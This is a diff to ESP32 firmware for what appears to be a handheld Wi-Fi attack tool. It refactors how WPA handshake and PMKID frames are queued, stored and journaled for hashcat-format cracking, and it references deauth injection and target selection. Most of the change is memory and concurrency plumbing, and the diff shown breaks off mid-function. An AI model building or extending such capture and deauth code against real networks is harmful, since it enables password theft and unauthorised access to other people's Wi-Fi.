@@ -13,6 +13,14 @@
 #include "../core/xp.h"
 #include "../core/heap_policy.h"
 #include "../core/heap_health.h"
+#include "../core/beacon_summary.h"
+#include "../core/eapol_store.h"
+#include "../core/capture_index.h"
+#include "../core/capture_spill.h"
+#include "../core/capture_journal.h"
+#include "../core/pcapng_writer.h"
+#include "../core/hc22000_encoder.h"
+#include "../core/captured_index.h"
 #include "../ui/display.h"
 #include "../piglet/mood.h"
 #include "../piglet/avatar.h"
@@ -24,7 +32,7 @@
 #include <algorithm>
 #include <cstdarg>  // For va_list in deferred logging
 #include <esp_heap_caps.h>
-#include <atomic>  // For atomic beaconCaptured flag
+#include <atomic>  // For atomic pending ring indices
 
 // NOTE: Vector mutex moved to NetworkRecon - use NetworkRecon::enterCritical()/exitCritical()
 // This ensures all modes (OINK, DoNoHam, Spectrum) use the SAME mutex for the shared networks vector
@@ -82,42 +90,10 @@ static void onNewNetworkDiscovered(wifi_auth_mode_t authmode, bool isHidden,
 }
 
 // Pending handshake/PMKID creation (callback queues, update() does push_back)
-// This avoids vector reallocation in callback context
-struct PendingHandshakeFrame {
-    uint8_t bssid[6];
-    uint8_t station[6];
-    uint8_t messageNum;        // DEPRECATED - used only for logging now
-    EAPOLFrame frames[4];      // Store all 4 EAPOL frames (M1-M4)
-    uint8_t capturedMask;      // Bitmask: bit0=M1, bit1=M2, bit2=M3, bit3=M4
-    uint8_t pmkid[16];         // If M1, may contain PMKID
-    bool hasPMKID;
-};
-
-// Circular buffer for pending handshake frames (4 slots to handle rapid EAPOL bursts)
-// STATIC POOL: Pre-allocated to avoid malloc in WiFi callback context (heap fragmentation risk)
-// WARNING: Each PendingHandshakeFrame is ~3.3KB (contains 4x EAPOLFrame @ 822 bytes each)
-// Total static pool: 4 * 3.3KB = ~13KB permanently in .bss - reduces heap even when idle!
-static const uint8_t PENDING_HS_SLOTS = 4;
-static PendingHandshakeFrame pendingHsPool[PENDING_HS_SLOTS];  // Static pool - no heap ops in callback
-// #region agent log
-// [DEBUG] H1: This static pool uses ~13KB of RAM - logged at compile time in .bss
-// Size info logged in init() below
-// #endregion
-static PendingHandshakeFrame* pendingHandshakes[PENDING_HS_SLOTS] = {nullptr, nullptr, nullptr, nullptr};
-static std::atomic<uint8_t> pendingHsWrite{0};
-static std::atomic<uint8_t> pendingHsRead{0};
-static std::atomic<bool> pendingHsBusy[PENDING_HS_SLOTS] = {
-    ATOMIC_VAR_INIT(false),
-    ATOMIC_VAR_INIT(false),
-    ATOMIC_VAR_INIT(false),
-    ATOMIC_VAR_INIT(false)
-};
-static std::atomic<bool> pendingHsAllocated[PENDING_HS_SLOTS] = {  // Track which pool slots are in use
-    ATOMIC_VAR_INIT(false),
-    ATOMIC_VAR_INIT(false),
-    ATOMIC_VAR_INIT(false),
-    ATOMIC_VAR_INIT(false)
-};
+// This avoids vector reallocation in callback context.
+// EAPOL frames for new handshakes go through the handoff queue shared with
+// DO NO HAM (one slot per frame, see PendingEapolFrame).
+static EapolHandoffQueue eapolHandoffQueue;
 
 struct PendingPMKIDCreate {
     uint8_t bssid[6];
@@ -125,18 +101,13 @@ struct PendingPMKIDCreate {
     uint8_t pmkid[16];
     char ssid[33];
 };
-static const uint8_t PENDING_PMKID_SLOTS = 4;
-static PendingPMKIDCreate pendingPMKIDPool[PENDING_PMKID_SLOTS];
-static std::atomic<uint8_t> pendingPmkidWrite{0};
-static std::atomic<uint8_t> pendingPmkidRead{0};
+static SpscQueue<PendingPMKIDCreate, 4> pendingPmkidQueue;
 
 static bool enqueuePendingPMKID(const uint8_t* bssid, const uint8_t* station,
                                  const uint8_t* pmkidData, const char* ssid) {
-    uint8_t write = pendingPmkidWrite.load(std::memory_order_relaxed);
-    uint8_t next = (uint8_t)((write + 1) % PENDING_PMKID_SLOTS);
-    uint8_t read = pendingPmkidRead.load(std::memory_order_acquire);
-    if (next == read) return false;  // Queue full
-    PendingPMKIDCreate& slot = pendingPMKIDPool[write];
+    PendingPMKIDCreate* queued = pendingPmkidQueue.beginPush();
+    if (!queued) return false;  // Queue full
+    PendingPMKIDCreate& slot = *queued;
     memcpy(slot.bssid, bssid, 6);
     memcpy(slot.station, station, 6);
     memcpy(slot.pmkid, pmkidData, 16);
@@ -146,17 +117,16 @@ static bool enqueuePendingPMKID(const uint8_t* bssid, const uint8_t* station,
     } else {
         slot.ssid[0] = 0;
     }
-    pendingPmkidWrite.store(next, std::memory_order_release);
+    pendingPmkidQueue.commitPush();
     return true;
 }
 
 static bool dequeuePendingPMKID(PendingPMKIDCreate& out) {
-    uint8_t read = pendingPmkidRead.load(std::memory_order_relaxed);
-    uint8_t write = pendingPmkidWrite.load(std::memory_order_acquire);
-    if (read == write) return false;  // Queue empty
-    out = pendingPMKIDPool[read];
-    pendingPmkidRead.store((uint8_t)((read + 1) % PENDING_PMKID_SLOTS), std::memory_order_release);
-    return true;
+    return pendingPmkidQueue.pop(out);
+}
+
+EapolHandoffQueue& OinkMode::eapolHandoff() {
+    return eapolHandoffQueue;
 }
 
 
@@ -170,6 +140,7 @@ uint8_t OinkMode::currentChannel = 1;
 uint32_t OinkMode::lastHopTime = 0;
 uint32_t OinkMode::lastScanTime = 0;
 static uint32_t lastCleanupTime = 0;
+static uint32_t lastReconLayout = 0;   // NetworkRecon::getLayoutVersion() at last revalidation
 
 // networks reference - now uses shared NetworkRecon vector
 // This provides backward compatibility with existing code that uses 'networks'
@@ -198,7 +169,13 @@ uint8_t OinkMode::filteredCacheIndex = 0;
 const size_t MAX_NETWORKS = 200;       // Max tracked networks
 const size_t MAX_HANDSHAKES = 50;      // Max handshakes (each can be large)
 const size_t MAX_PMKIDS = 50;          // Max PMKIDs (smaller than handshakes)
-const uint16_t MAX_BEACON_SIZE = 1500; // IEEE 802.11 practical limit (protect against oversized/malformed frames)
+static const uint32_t INCOMPLETE_HS_MAX_AGE = 60000;  // Quiet in-progress captures age out
+
+// (BSSID, station) -> vector position for the EAPOL lookup path.
+// Guarded by NetworkRecon::enterCritical() like the vectors themselves.
+static CaptureIndex<128> handshakeIndex;
+static CaptureIndex<128> pmkidIndex;
+static_assert(MAX_HANDSHAKES <= 127 && MAX_PMKIDS <= 127, "capture indexes are sized for 127 entries");
 
 // Protocol constants
 static const uint8_t MAC_ADDR_LEN = 6;
@@ -219,12 +196,6 @@ static const uint16_t EAPOL_KEYDATA_OFFSET = 99;  // Key Data field offset
 // Timing constants
 static const uint32_t DEAUTH_BURST_INTERVAL_MS = 180;  // Optimal deauth burst interval (prevents queue saturation)
 
-// Beacon frame storage for PCAP (required for hashcat)
-static uint8_t beaconFrameStorage[MAX_BEACON_SIZE] = {0};
-uint8_t* OinkMode::beaconFrame = beaconFrameStorage;
-uint16_t OinkMode::beaconFrameLen = 0;
-std::atomic<bool> OinkMode::beaconCaptured{false};  // Atomic initialization for thread safety
-
 // BOAR BROS - excluded networks (fixed array in BSS, zero heap)
 OinkMode::BoarBro OinkMode::boarBros[50] = {};
 uint16_t OinkMode::boarBrosCount = 0;
@@ -306,9 +277,10 @@ static uint32_t oinkStartMs = 0;
 static uint32_t reconPacketStart = 0;
 
 static bool isWarmForTargets(uint32_t now);
-static uint8_t computeQualityScore(const DetectedNetwork& net, uint32_t now);
-static int computeTargetScore(const DetectedNetwork& net, uint32_t now);
-static bool isEligibleTarget(const DetectedNetwork& net, uint32_t now);
+// Scoring takes DetectedNetwork or NetworkRecon::NetworkView (same field names)
+template <typename Net> static uint8_t computeQualityScore(const Net& net, uint32_t now);
+template <typename Net> static int computeTargetScore(const Net& net, uint32_t now);
+template <typename Net> static bool isEligibleTarget(const Net& net, uint32_t now);
 
 // WAITING state variables (reset in init() to prevent stale state on restart)
 static bool checkedForPendingHandshake = false;
@@ -320,14 +292,98 @@ static bool boredStateReset = true;  // Flag to reset on start()
 // Last pwned network SSID for display
 static char lastPwnedSSID[33] = "";
 
+bool CapturedHandshake::storeFrame(uint8_t msgIdx, const uint8_t* eapol, uint16_t len,
+                                   const uint8_t* fullFrame, uint16_t fullLen,
+                                   int8_t rssi, uint32_t timestamp,
+                                   uint8_t channel, uint32_t rxTimeUs) {
+    if (msgIdx >= 4 || !eapol || len == 0) return false;
+    HandshakeFrame& frame = frames[msgIdx];
+    if (!EapolStore::storePair(frame.eapol, eapol, min((uint16_t)512, len),
+                               frame.fullFrame, fullFrame, min((uint16_t)300, fullLen))) {
+        return false;
+    }
+    frame.messageNum = msgIdx + 1;
+    frame.timestamp = timestamp;
+    frame.rssi = rssi;
+    frame.channel = channel;
+    frame.rxTimeUs = rxTimeUs;
+    capturedMask |= (1 << msgIdx);
+    return true;
+}
+
+void CapturedHandshake::releaseFrames() {
+    for (int i = 0; i < 4; i++) {
+        EapolStore::release(frames[i].eapol);
+        EapolStore::release(frames[i].fullFrame);
+    }
+    capturedMask = 0;
+}
+
+void CapturedHandshake::releaseSavedFrames() {
+    uint8_t mask = capturedMask;
+    releaseFrames();
+    capturedMask = mask;
+}
+
+void PendingEapolFrame::set(const uint8_t* apBssid, const uint8_t* sta, uint8_t idx,
+                            const uint8_t* eapol, uint16_t len,
+                            const uint8_t* full, uint16_t fullLen,
+                            int8_t rssi, uint8_t channel, uint32_t rxTimeUs) {
+    memcpy(bssid, apBssid, 6);
+    memcpy(station, sta, 6);
+    msgIdx = idx;
+    uint16_t copyLen = min((uint16_t)sizeof(frame.data), len);
+    memcpy(frame.data, eapol, copyLen);
+    frame.len = copyLen;
+    uint16_t fullCopyLen = full ? min((uint16_t)sizeof(frame.fullFrame), fullLen) : 0;
+    if (fullCopyLen) memcpy(frame.fullFrame, full, fullCopyLen);
+    frame.fullFrameLen = fullCopyLen;
+    frame.messageNum = (uint8_t)(idx + 1);
+    frame.rssi = rssi;
+    frame.channel = channel;
+    frame.rxTimeUs = rxTimeUs;
+}
+
+void OinkMode::logEapolHandoff(const char* tag) {
+    const EapolHandoffQueue& queue = eapolHandoffQueue;
+    if (queue.getPushed() == 0 && queue.getDropped() == 0) return;
+    Serial.printf("[%s] EAPOL handoff: %u queued, %u dropped, peak %u/%u slots\n",
+                  tag, (unsigned)queue.getPushed(), (unsigned)queue.getDropped(),
+                  (unsigned)queue.getHighWater(), (unsigned)EapolHandoffQueue::kCapacity);
+    if (queue.getDropped() > 0) {
+        SDLog::log(tag, "EAPOL handoff dropped %u frames (peak %u/%u)",
+                   (unsigned)queue.getDropped(), (unsigned)queue.getHighWater(),
+                   (unsigned)EapolHandoffQueue::kCapacity);
+    }
+}
+
+// EAPOL arena full: hand the chunks of the least recently seen in-progress
+// capture back so a new frame is not dropped (the entry itself is pruned
+// by update()). Caller holds NetworkRecon::enterCritical().
+static bool reclaimEapolChunks(std::vector<CapturedHandshake>& list, int keep) {
+    int victim = CaptureSpill::oldestIncomplete(list, millis(), keep);
+    if (victim < 0) return false;
+    list[victim].releaseFrames();
+    return true;
+}
+
+// Copy a stored frame out under the spinlock (the callback may be rewriting it)
+static uint16_t copyStoredFrame(const EapolArena::Ref& ref, uint8_t* dst, uint16_t cap) {
+    NetworkRecon::enterCritical();
+    uint16_t n = EapolStore::copy(ref, dst, cap);
+    NetworkRecon::exitCritical();
+    return n;
+}
+
 void OinkMode::init() {
     // #region agent log
-    // [DEBUG] H1: Log static pool size to confirm ~13KB allocation
-    Serial.printf("[DBG-OINK] pendingHsPool size: %u bytes (%u slots x %u each)\n",
-                  (unsigned)(sizeof(pendingHsPool)), 
-                  (unsigned)PENDING_HS_SLOTS,
-                  (unsigned)sizeof(PendingHandshakeFrame));
-    Serial.printf("[DBG-OINK] EAPOLFrame size: %u bytes\n", (unsigned)sizeof(EAPOLFrame));
+    // [DEBUG] H1: Log static handoff queue size (~13KB in .bss)
+    Serial.printf("[DBG-OINK] EAPOL handoff size: %u bytes (%u slots x %u each)\n",
+                  (unsigned)(sizeof(eapolHandoffQueue)),
+                  (unsigned)EapolHandoffQueue::kCapacity,
+                  (unsigned)sizeof(PendingEapolFrame));
+    Serial.printf("[DBG-OINK] EAPOLFrame size: %u bytes, CapturedHandshake: %u bytes\n",
+                  (unsigned)sizeof(EAPOLFrame), (unsigned)sizeof(CapturedHandshake));
     Serial.printf("[DBG-OINK] Heap before init: free=%u largest=%u\n",
                   (unsigned)ESP.getFreeHeap(),
                   (unsigned)heap_caps_get_largest_free_block(MALLOC_CAP_8BIT));
@@ -347,23 +403,14 @@ void OinkMode::init() {
     lastBoredUpdate = 0;
     boredStateReset = true;
 
-    // Reset static pool tracking (no heap ops - pool is pre-allocated)
-    for (int i = 0; i < PENDING_HS_SLOTS; i++) {
-        pendingHandshakes[i] = nullptr;
-        pendingHsBusy[i] = false;
-        pendingHsAllocated[i] = false;
-    }
-    pendingHsWrite = 0;
-    pendingHsRead = 0;
-    pendingPmkidWrite = 0;
-    pendingPmkidRead = 0;
+    // Empty the callback handoff queues (static, no heap ops)
+    eapolHandoffQueue.reset();
+    pendingPmkidQueue.reset();
 
-    // Free per-handshake beacon memory
+    // Drop beacon references and stored EAPOL frames
     for (auto& hs : handshakes) {
-        if (hs.beaconData) {
-            free(hs.beaconData);
-            hs.beaconData = nullptr;
-        }
+        BeaconStore::release(hs.beacon);
+        hs.releaseFrames();
     }
     
     // networks vector is now managed by NetworkRecon - just clear OINK-specific data
@@ -371,6 +418,8 @@ void OinkMode::init() {
     handshakes.shrink_to_fit();
     pmkids.clear();
     pmkids.shrink_to_fit();
+    handshakeIndex.clear();
+    pmkidIndex.clear();
 
     handshakes.reserve(5);
     pmkids.reserve(10);
@@ -397,11 +446,6 @@ void OinkMode::init() {
     checkedForPendingHandshake = false;
     hasPendingHandshake = false;
     
-    // Clear beacon frame (static storage, no free)
-    beaconFrame = beaconFrameStorage;
-    beaconFrameLen = 0;
-    beaconCaptured = false;
-    
     // Load BOAR BROS exclusion list
     loadBoarBros();
 }
@@ -412,6 +456,15 @@ void OinkMode::start() {
     Serial.printf("[OINK] Starting... free=%u largest=%u\n",
                   ESP.getFreeHeap(), heap_caps_get_largest_free_block(MALLOC_CAP_8BIT));
     
+    // Session capture journal: the only file created for this session's
+    // captures (header only - update() grows its zeroed tail via reserve())
+    if (Config::isSDAvailable()) {
+        bool reconWasRunning = NetworkRecon::isRunning();
+        if (reconWasRunning) NetworkRecon::pause();
+        CaptureJournal::open();
+        if (reconWasRunning) NetworkRecon::resume();
+    }
+    
     // Ensure NetworkRecon is running (handles WiFi promiscuous mode)
     if (!NetworkRecon::isRunning()) {
         NetworkRecon::start();
@@ -420,8 +473,13 @@ void OinkMode::start() {
     // Initialize WSL bypasser for deauth frame injection
     WSLBypasser::init();
     
+    // Arena for captured EAPOL frames (before the callback can store any)
+    EapolStore::begin(HeapPolicy::kEapolArenaBytes);
+    
     // Register our packet callback for EAPOL/handshake capture
-    NetworkRecon::setPacketCallback(promiscuousCallback);
+    // (beacons for PMKID/target tracking, data for EAPOL - no control frames)
+    NetworkRecon::setPacketCallback(promiscuousCallback,
+                                    FrameInterest::kBeacon | FrameInterest::kData);
     
     // Register callback for new network discovery (triggers XP events)
     NetworkRecon::setNewNetworkCallback(onNewNetworkDiscovered);
@@ -472,36 +530,29 @@ void OinkMode::stop() {
     // Process any deferred XP saves
     XP::processPendingSave();
     
-    // Reset beacon frame (static storage, no free)
-    beaconFrame = beaconFrameStorage;
-    beaconFrameLen = 0;
-    beaconCaptured = false;
+    // Flush and close the session journal (its records stay where they are)
+    CaptureJournal::close();
+    
     clearTargetClients();
     
-    // Free per-handshake beacon memory to prevent leaks on repeated start/stop
+    // Drop beacon references (the cache itself is static)
     for (auto& hs : handshakes) {
-        if (hs.beaconData) {
-            free(hs.beaconData);
-            hs.beaconData = nullptr;
-        }
+        BeaconStore::release(hs.beacon);
     }
     
     // FIX: Release vector capacity to recover heap (~6KB leak)
     handshakes.clear();
     handshakes.shrink_to_fit();
+    EapolStore::end();  // Frees every stored EAPOL frame at once
     pmkids.clear();
     pmkids.shrink_to_fit();
+    handshakeIndex.clear();
+    pmkidIndex.clear();
     
-    // Reset static pool tracking (no heap ops - pool is pre-allocated)
-    for (int i = 0; i < PENDING_HS_SLOTS; i++) {
-        pendingHandshakes[i] = nullptr;
-        pendingHsBusy[i] = false;
-        pendingHsAllocated[i] = false;
-    }
-    pendingHsWrite = 0;
-    pendingHsRead = 0;
-    pendingPmkidWrite = 0;
-    pendingPmkidRead = 0;
+    // Handoff telemetry for this session, then empty the queues
+    logEapolHandoff("OINK");
+    eapolHandoffQueue.reset();
+    pendingPmkidQueue.reset();
 
     running = false;
     Mood::setDialogueLock(false);
@@ -631,59 +682,56 @@ void OinkMode::update() {
     if (shouldAutoSave) {
         autoSaveCheck();
     }
+
+    // Skip networks looted in earlier sessions
+    static uint32_t lastLootTag = 0;
+    if (now - lastLootTag > 500) {
+        tagLootedNetworks();
+        lastLootTag = now;
+        // Keep the journal's zeroed tail ahead of the next paused save
+        CaptureJournal::reserve();
+    }
     
-    // Process pending handshake creation from circular buffer (callback queued, we do push_back here)
-    while (pendingHsRead != pendingHsWrite) {
-        // Get slot from circular buffer
-        uint8_t slot = pendingHsRead;
-        if (pendingHsBusy[slot] || !pendingHandshakes[slot]) {
-            break;  // Slot still being written by callback or not allocated, wait for next cycle
-        }
-        
+    // Merge queued EAPOL frames for new handshakes (callback queued, we do push_back here)
+    while (PendingEapolFrame* pending = eapolHandoffQueue.peek()) {
         // Create or find handshake entry in main thread context
-        int idx = findOrCreateHandshakeSafe(pendingHandshakes[slot]->bssid, pendingHandshakes[slot]->station);
+        int idx = findOrCreateHandshakeSafe(pending->bssid, pending->station);
         if (idx >= 0) {
             CapturedHandshake& hs = handshakes[idx];
+            const EAPOLFrame& queued = pending->frame;
+            uint8_t msgIdx = pending->msgIdx;
+            bool wasComplete = hs.isComplete();
             
-            // Process ALL queued frames (M1-M4) from capturedMask
-            for (int msgIdx = 0; msgIdx < 4; msgIdx++) {
-                if (pendingHandshakes[slot]->capturedMask & (1 << msgIdx)) {
-                    // Frame is present in the queued data
-                    if (hs.frames[msgIdx].len == 0) {  // Not already captured
-                        uint16_t copyLen = pendingHandshakes[slot]->frames[msgIdx].len;
-                        if (copyLen > 0 && copyLen <= 512) {
-                            // EAPOL payload
-                            memcpy(hs.frames[msgIdx].data, pendingHandshakes[slot]->frames[msgIdx].data, copyLen);
-                            hs.frames[msgIdx].len = copyLen;
-                            hs.frames[msgIdx].messageNum = msgIdx + 1;
-                            hs.frames[msgIdx].timestamp = millis();
-                            
-                            // Full 802.11 frame for PCAP
-                            uint16_t fullLen = pendingHandshakes[slot]->frames[msgIdx].fullFrameLen;
-                            if (fullLen > 0 && fullLen <= 300) {
-                                memcpy(hs.frames[msgIdx].fullFrame, pendingHandshakes[slot]->frames[msgIdx].fullFrame, fullLen);
-                                hs.frames[msgIdx].fullFrameLen = fullLen;
-                                hs.frames[msgIdx].rssi = pendingHandshakes[slot]->frames[msgIdx].rssi;
-                            }
-                            
-                            hs.capturedMask |= (1 << msgIdx);
-                            hs.lastSeen = millis();
-                        }
-                    }
+            // Not already captured (earlier queued frame or the callback path)
+            if (!hs.saved && hs.frames[msgIdx].len() == 0 && queued.len > 0 && queued.len <= 512) {
+                // EAPOL payload + full 802.11 frame for PCAP (arena is shared with the callback)
+                uint16_t fullLen = queued.fullFrameLen <= 300 ? queued.fullFrameLen : 0;
+                NetworkRecon::enterCritical();
+                bool stored = false;
+                do {
+                    stored = hs.storeFrame(msgIdx, queued.data, queued.len,
+                                           queued.fullFrame, fullLen, queued.rssi, millis(),
+                                           queued.channel, queued.rxTimeUs);
+                } while (!stored && reclaimEapolChunks(handshakes, idx));
+                NetworkRecon::exitCritical();
+                if (stored) {
+                    hs.lastSeen = millis();
                 }
             }
             
             // Get SSID for this BSSID
-            for (const auto& net : networks()) {
-                if (memcmp(net.bssid, pendingHandshakes[slot]->bssid, 6) == 0) {
-                    strncpy(hs.ssid, net.ssid, 32);
-                    hs.ssid[32] = 0;
-                    break;
+            if (hs.ssid[0] == 0) {
+                for (const auto& net : networks()) {
+                    if (memcmp(net.bssid, pending->bssid, 6) == 0) {
+                        strncpy(hs.ssid, net.ssid, 32);
+                        hs.ssid[32] = 0;
+                        break;
+                    }
                 }
             }
             
-            // Check if handshake is now complete
-            if (hs.isComplete() && !hs.saved) {
+            // Check if this frame completed the handshake
+            if (!wasComplete && hs.isComplete() && !hs.saved) {
                 pendingHandshakeComplete = true;
                 strncpy(pendingHandshakeSSID, hs.ssid, 32);
                 pendingHandshakeSSID[32] = 0;
@@ -692,28 +740,10 @@ void OinkMode::update() {
                 // Auto-save complete handshake (safe here - main thread context)
                 autoSaveCheck();
             }
-            
-            // Handle PMKID from M1 if present
-            if (pendingHandshakes[slot]->hasPMKID) {
-                int pIdx = findOrCreatePMKIDSafe(pendingHandshakes[slot]->bssid, pendingHandshakes[slot]->station);
-                if (pIdx >= 0 && !pmkids[pIdx].saved) {
-                    memcpy(pmkids[pIdx].pmkid, pendingHandshakes[slot]->pmkid, 16);
-                    // Get SSID
-                    for (const auto& net : networks()) {
-                        if (memcmp(net.bssid, pendingHandshakes[slot]->bssid, 6) == 0) {
-                            strncpy(pmkids[pIdx].ssid, net.ssid, 32);
-                            pmkids[pIdx].ssid[32] = 0;
-                            break;
-                        }
-                    }
-                }
-            }
         }
         
-        // Release slot back to static pool (no heap ops), advance read pointer
-        pendingHandshakes[slot] = nullptr;
-        pendingHsAllocated[slot] = false;
-        pendingHsRead = (pendingHsRead + 1) % PENDING_HS_SLOTS;
+        // Release the slot back to the callback
+        eapolHandoffQueue.pop();
     }
     
     // Process pending PMKID creation (callback queued, we do push_back here)
@@ -749,17 +779,17 @@ void OinkMode::update() {
     // This minimizes packet drop window from ~10ms to ~0.5ms
     oinkBusy = false;
     
-    // Periodic beacon data audit to prevent leaks (every 10s - Phase 3A fix)
-    // Free beacon data from saved handshakes to reclaim heap
+    // Periodic capture audit (every 10s): only captures waiting to be
+    // saved may hold a beacon, and in-progress captures that went quiet
+    // (or lost their frames to reclaimEapolChunks) are dropped
     static uint32_t lastBeaconAudit = 0;
     if (now - lastBeaconAudit > 10000) {
         for (auto& hs : handshakes) {
-            if (hs.saved && hs.beaconData) {
-                free(hs.beaconData);
-                hs.beaconData = nullptr;
-                hs.beaconLen = 0;
+            if (!hs.beacon.empty() && (hs.saved || !hs.isComplete())) {
+                BeaconStore::release(hs.beacon);
             }
         }
+        pruneStaleHandshakes();
         lastBeaconAudit = now;
     }
     
@@ -840,14 +870,13 @@ void OinkMode::update() {
                     char targetSSID[33] = {0};
                     uint8_t targetChannel = 0;
                     
-                    const bool wasBusy = oinkBusy;
-                    oinkBusy = true;
-                    NetworkRecon::enterCritical();
-                    size_t netCount = networks().size();
+                    // Walk the published snapshot; only the pmkids check needs the lock
+                    NetworkRecon::Snapshot snap;
+                    size_t netCount = snap.size();
                     if (netCount > 0) {
                         for (int attempts = 0; attempts < (int)netCount && !foundTarget; attempts++) {
                             pmkidTargetIndex = (pmkidTargetIndex + 1) % netCount;
-                            DetectedNetwork& net = networks()[pmkidTargetIndex];
+                            const NetworkRecon::NetworkView& net = snap[pmkidTargetIndex];
                             
                             // Skip: Open, WEP, BOAR BRO, PMF, or already have PMKID
                             if (net.authmode == WIFI_AUTH_OPEN) continue;
@@ -858,13 +887,17 @@ void OinkMode::update() {
                             
                             // Check if we already have PMKID for this AP
                             bool hasPMKID = false;
+                            NetworkRecon::enterCritical();
                             for (const auto& p : pmkids) {
                                 if (memcmp(p.bssid, net.bssid, 6) == 0) {
                                     hasPMKID = true;
                                     break;
                                 }
                             }
+                            NetworkRecon::exitCritical();
                             if (hasPMKID) continue;
+                            // ...or from an earlier session (tagged by tagLootedNetworks)
+                            if (net.lootTypes & CapturedIndex::kPmkid) continue;
 
                             // Skip networks already probed this cycle
                             if (pmkidTargetIndex < 64 && (pmkidProbedBitset & (1ULL << pmkidTargetIndex))) continue;
@@ -876,8 +909,6 @@ void OinkMode::update() {
                             targetChannel = net.channel;
                         }
                     }
-                    NetworkRecon::exitCritical();
-                    oinkBusy = wasBusy;
                     
                     if (foundTarget) {
                         if (currentChannel != targetChannel) {
@@ -1161,6 +1192,7 @@ void OinkMode::update() {
                     }
                     if (netIdx >= 0) {
                         networks()[netIdx].hasHandshake = true;
+                        NetworkRecon::syncNetwork(netIdx);
                         if (targetIndex >= 0 && targetIndex < (int)networks().size() &&
                             memcmp(networks()[targetIndex].bssid, hs.bssid, 6) == 0) {
                             targetHandshakeCaptured = true;
@@ -1196,6 +1228,7 @@ void OinkMode::update() {
                             else if (tRssi >= -65) cooldown = 8000;
                             else cooldown = 12000;
                             net.cooldownUntil = now + cooldown;
+                            NetworkRecon::syncNetwork((int)(&net - networks().data()));
                             break;
                         }
                     }
@@ -1307,21 +1340,16 @@ void OinkMode::update() {
     // which runs every 5 seconds. This eliminates dual cleanup race conditions.
     // OINK only needs to revalidate its indices when networks change.
     
-    // Periodic index revalidation (in case NetworkRecon cleaned up our target)
-    if (now - lastCleanupTime > 5000) {
+    // Index revalidation whenever NetworkRecon moves records (cleanup swap-removes
+    // stale entries, so our target may now sit in a different slot)
+    uint32_t reconLayout = NetworkRecon::getLayoutVersion();
+    if (reconLayout != lastReconLayout || now - lastCleanupTime > 5000) {
         lastCleanupTime = now;
+        lastReconLayout = reconLayout;
         
         // Revalidate targetIndex using stored BSSID
         if (targetIndex >= 0) {
-            NetworkRecon::enterCritical();
-            int foundIdx = -1;
-            for (int i = 0; i < (int)networks().size(); i++) {
-                if (memcmp(networks()[i].bssid, targetBssid, 6) == 0) {
-                    foundIdx = i;
-                    break;
-                }
-            }
-            NetworkRecon::exitCritical();
+            int foundIdx = NetworkRecon::resolveNetworkIndex(targetBssid, targetIndex);
             
             if (foundIdx != targetIndex) {
                 targetIndex = foundIdx;
@@ -1366,6 +1394,9 @@ void OinkMode::update() {
             networks().erase(networks().begin());
             emergencyErased++;
         }
+        if (emergencyErased > 0) {
+            NetworkRecon::reindexNetworks();
+        }
         
         // Revalidate target by BSSID instead of blanket reset
         if (emergencyErased > 0 && targetIndex >= 0) {
@@ -1413,12 +1444,10 @@ void OinkMode::selectTarget(int index) {
         clearTargetClients();
         targetIndex = index;
         memcpy(targetBssid, networks()[index].bssid, 6);  // Store BSSID
+        NetworkRecon::enterCritical();
         networks()[index].isTarget = true;
-        
-        // Clear old beacon frame when target changes (static storage, no free)
-        beaconFrame = beaconFrameStorage;
-        beaconFrameLen = 0;
-        beaconCaptured = false;
+        NetworkRecon::syncNetwork(index);  // Pin against recon eviction
+        NetworkRecon::exitCritical();
         
         // Lock to target's channel
         channelHopping = false;
@@ -1433,7 +1462,10 @@ void OinkMode::selectTarget(int index) {
 
 void OinkMode::clearTarget() {
     if (targetIndex >= 0 && targetIndex < (int)networks().size()) {
+        NetworkRecon::enterCritical();
         networks()[targetIndex].isTarget = false;
+        NetworkRecon::syncNetwork(targetIndex);
+        NetworkRecon::exitCritical();
     }
     targetIndex = -1;
     memset(targetBssid, 0, 6);
@@ -1508,6 +1540,11 @@ void OinkMode::hopChannel() {
     currentChannel = NetworkRecon::getCurrentChannel();
 }
 
+// Radio metadata of the frame being processed, for the radiotap header of
+// stored EAPOL frames (written and read only in callback context)
+static uint8_t rxChannel = 0;
+static uint32_t rxTimeUs = 0;
+
 void OinkMode::promiscuousCallback(const wifi_promiscuous_pkt_t* pkt, wifi_promiscuous_pkt_type_t type) {
     // This callback is registered with NetworkRecon for OINK-specific packet processing
     // NetworkRecon already handles beacon/network tracking, so we focus on:
@@ -1520,6 +1557,8 @@ void OinkMode::promiscuousCallback(const wifi_promiscuous_pkt_t* pkt, wifi_promi
     
     uint16_t len = pkt->rx_ctrl.sig_len;
     int8_t rssi = pkt->rx_ctrl.rssi;
+    rxChannel = pkt->rx_ctrl.channel;
+    rxTimeUs = pkt->rx_ctrl.timestamp;
     
     // ESP32 adds 4 ghost bytes to sig_len
     if (len > 4) len -= 4;
@@ -1527,19 +1566,6 @@ void OinkMode::promiscuousCallback(const wifi_promiscuous_pkt_t* pkt, wifi_promi
     
     packetCount++;
     
-    // #region agent log - H5 callback firing
-    {
-        static uint32_t lastCbLog = 0;
-        static uint32_t cbCount = 0;
-        cbCount++;
-        uint32_t now = millis();
-        if (now - lastCbLog > 3000) {
-            lastCbLog = now;
-            Serial.printf("[DBG-H5] OINK callback count=%lu type=%d\n", cbCount, (int)type);
-        }
-    }
-    // #endregion
-    
     const uint8_t* payload = pkt->payload;
     uint8_t frameSubtype = (payload[0] >> 4) & 0x0F;
     
@@ -1570,17 +1596,13 @@ void OinkMode::processBeacon(const uint8_t* payload, uint16_t len, int8_t rssi)
     
     const uint8_t* bssid = payload + 16;
     
-    // Capture beacon for target AP only
-    if (targetIndex >= 0 && !beaconCaptured) {
-        if (memcmp(bssid, targetBssid, 6) == 0) {
-            if (len > MAX_BEACON_SIZE) {
-                return;  // Drop oversized beacon
-            }
-            memcpy(beaconFrameStorage, payload, len);
-            beaconFrame = beaconFrameStorage;
-            beaconFrameLen = len;
-            beaconCaptured = true;
-        }
+    // Cache the target AP's beacon ahead of its handshake; any other AP's
+    // beacon is only kept if a capture is already waiting for it.
+    // Oversized/malformed frames are refused by the cache.
+    if (targetIndex >= 0 && memcmp(bssid, targetBssid, 6) == 0) {
+        BeaconStore::put(bssid, payload, len);
+    } else {
+        BeaconStore::offer(bssid, payload, len);
     }
     
     // Update hasHandshake flag in shared network data
@@ -1589,7 +1611,8 @@ void OinkMode::processBeacon(const uint8_t* payload, uint16_t len, int8_t rssi)
         NetworkRecon::enterCritical();
         auto& nets = NetworkRecon::getNetworks();
         if (idx < (int)nets.size()) {
-            nets[idx].hasHandshake = hasHandshakeFor(bssid);
+            // Sticky: may already be set from CapturedIndex (earlier session)
